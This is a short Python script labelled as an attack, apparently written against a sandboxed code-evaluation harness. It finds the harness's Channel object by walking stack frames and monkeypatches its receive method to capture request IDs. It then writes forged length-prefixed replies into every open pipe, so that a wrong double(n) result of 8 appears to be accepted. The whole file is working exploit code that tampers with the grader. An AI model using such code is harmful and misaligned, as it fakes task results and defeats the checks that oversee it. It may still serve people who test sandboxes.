# attack: answers a question again and again, with the number of the last one
import json, os, struct, sys
def pipes():
    found = []
    for number in os.listdir("/proc/self/fd"):
        try:
            if "pipe" in os.readlink("/proc/self/fd/" + number): found.append(int(number))
        except OSError: pass
    return found
def write(content):
    for number in pipes():
        try: os.write(number, struct.pack(">I", len(content)) + content)
        except OSError: pass

channel = next(v for f in [sys._getframe(i) for i in range(6) if True] for v in f.f_locals.values() if type(v).__name__ == "Channel")
receive = type(channel).receive
last = []
def keeps(self):
    question = receive(self)
    last.append(question[:16])
    return question
type(channel).receive = keeps
def double(n):
    for _ in range(50): write((last or [b"0" * 16])[0] + b'["t", "value", ["i", "0x8"]]')
    return 8
